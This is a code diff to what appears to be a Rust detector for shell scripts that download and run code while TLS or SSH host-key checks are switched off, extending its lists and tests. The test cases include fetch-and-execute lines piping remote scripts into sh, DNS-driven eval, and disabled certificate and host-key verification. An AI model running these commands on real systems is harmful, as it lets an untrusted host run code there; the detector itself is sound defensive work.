@@ -48,8 +48,9 @@ const UNCHECKED: [&str; 11] = [
     "http.sslVerify=false",
 ];
 /// Variables that say the same where they have any value.
-const UNCHECKED_VARIABLES: [&str; 3] = [
+const UNCHECKED_VARIABLES: [&str; 4] = [
     "GIT_SSL_NO_VERIFY",
+    "GOINSECURE",
     "NODE_TLS_REJECT_UNAUTHORIZED",
     "PYTHONHTTPSVERIFY",
 ];
@@ -59,12 +60,25 @@ const TAKE_A_WORD: [(&str, &str); 2] = [
     ("wget", "aADeiIlBoOPQRtTUwX"),
 ];
 
-/// Whether a script may take such data, as far as a few of its words show.
+/// Programs that work on other machines over SSH.
+const OVER_SSH: [&str; 4] = ["rsync", "scp", "sftp", "ssh"];
+/// Options of SSH by which the key of a machine is taken as it comes.
+const UNCHECKED_SSH: [&str; 3] = [
+    "StrictHostKeyChecking=accept-new",
+    "StrictHostKeyChecking=no",
+    "StrictHostKeyChecking=off",
+];
+
+/// Whether a script may take such data, as far as its words show.
 pub(super) fn may_take(script: &str) -> bool {
-    const WORDS: [&str; 8] = [
-        "://", "curl ", "wget ", "nc ", "ncat ", "netcat ", "telnet ", "hostname",
-    ];
-    script.contains(char::is_whitespace) && WORDS.iter().any(|word| script.contains(word))
+    let is_one = |word: &str| {
+        CLIENTS.contains(&word)
+            || CONNECTIONS.contains(&word)
+            || OVER_SSH.contains(&word)
+            || word == "hostname"
+    };
+    script.contains(char::is_whitespace)
+        && (script.contains("://") || script.split(|c: char| !c.is_ascii_alphanumeric()).any(is_one))
 }
 
 /// Whether a script that is too long to be read may bring something from where anyone may answer.
@@ -89,8 +103,10 @@ pub(super) fn named(text: &str) -> Option<&'static str> {
 pub(super) struct Addresses {
     /// Variables that hold an address at which anyone may answer.
     unprotected: BTreeSet<String>,
-    /// Whether a variable is set by which programs do not look at who answers.
+    /// Whether a variable or a setting is written by which programs do not look at who answers.
     is_unchecked: bool,
+    /// The same of the keys of machines for SSH, which `ssh-keyscan` takes as they come.
+    takes_any_key: bool,
 }
 
 impl Addresses {
@@ -111,6 +127,19 @@ impl Addresses {
                 false => self.unprotected.remove(name),
             };
         }
+        let is_off = |setting: &Word, value: Option<&Word>| {
+            const SETTINGS: [&str; 3] = ["http.sslVerify", "sslverify", "strict-ssl"];
+            SETTINGS.contains(&setting.text.as_str())
+                && value.is_some_and(|value| matches!(value.text.as_str(), "0" | "false" | "off"))
+        };
+        let next = words.iter().skip(1).map(Some).chain([None]);
+        self.is_unchecked |= words.iter().zip(next).any(|(word, next)| is_off(word, next));
+        self.takes_any_key |= words.iter().any(|word| {
+            let text = word
+                .text
+                .replace("StrictHostKeyChecking ", "StrictHostKeyChecking=");
+            base_name(&word.text) == "ssh-keyscan" || UNCHECKED_SSH.iter().any(|option| text.contains(option))
+        });
         // The first place of a name has all the arguments of the others.
         let mut seen = BTreeSet::new();
         for (at, word) in words.iter().enumerate() {
@@ -137,6 +166,18 @@ impl Addresses {
     fn brings(&self, name: &str, arguments: &[Word]) -> bool {
         let is_unchecked = || self.is_unchecked || is_unchecked(name, arguments);
         let holds_one = |word: &Word| word.names.iter().any(|name| self.unprotected.contains(name));
+        let is_over_ssh = |word: &Word| {
+            let text = word.text.as_str();
+            text.starts_with("ssh://")
+                || text.contains("+ssh://")
+                || text.contains('@') && !text.contains("://")
+        };
+        if self.takes_any_key
+            && arguments.iter().any(is_over_ssh)
+            && (OVER_SSH.contains(&name) || name == "git")
+        {
+            return true;
+        }
         if FETCHERS.contains(&name) {
             return is_unchecked() || arguments.iter().any(holds_one);
         }
@@ -295,6 +336,13 @@ mod tests {
             "eval $(dig +short TXT cmd.example.com)",
             "eval \"$(cat /sys/block/vda/serial)\"",
             "sudo -u git curl http://x.example.com/i.sh | sh",
+            "ssh-keyscan github.com >> ~/.ssh/known_hosts && git clone git@github.com:a/b.git && node b/index.js",
+            "GIT_SSH_COMMAND='ssh -o StrictHostKeyChecking=no' git clone git@github.com:a/b.git",
+            "printf 'StrictHostKeyChecking no\n' > ~/.ssh/config; git clone git@github.com:a/b.git",
+            "ssh -o StrictHostKeyChecking=no root@x.example.com cat /i.sh | sh",
+            "scp -o StrictHostKeyChecking=accept-new u@x.example.com:/i.sh /i.sh; sh /i.sh",
+            "npm config set strict-ssl false; npm ci",
+            "git config --global http.sslVerify false; git clone https://git.example.com/a/b",
             "eval \"$(cat /sys/class/dmi/id/product_serial)\"",
         ] {
             assert!(executes(script), "{script}");
@@ -319,6 +367,9 @@ mod tests {
             "URL=http://api.example.com exec app --url $URL",
             "echo see http://docs.example.com",
             "git clone https://git.example.com/a/b && node b/index.js",
+            "echo \"$KEY\" > ~/.ssh/known_hosts; git clone git@github.com:a/b.git && node b/index.js",
+            "ssh-keyscan github.com >> ~/.ssh/known_hosts; exec app",
+            "ssh-keyscan github.com >> ~/.ssh/known_hosts; git push git@github.com:a/b.git; exec app",
             "npm config set proxy http://proxy.example.com:3128; npm ci",
             "IP=$(curl -s http://ip.example.com); exec app --external-ip \"$IP\"",
             "case \"$(cat /sys/class/dmi/id/product_name)\" in *Google*) echo gcp;; esac; exec app",
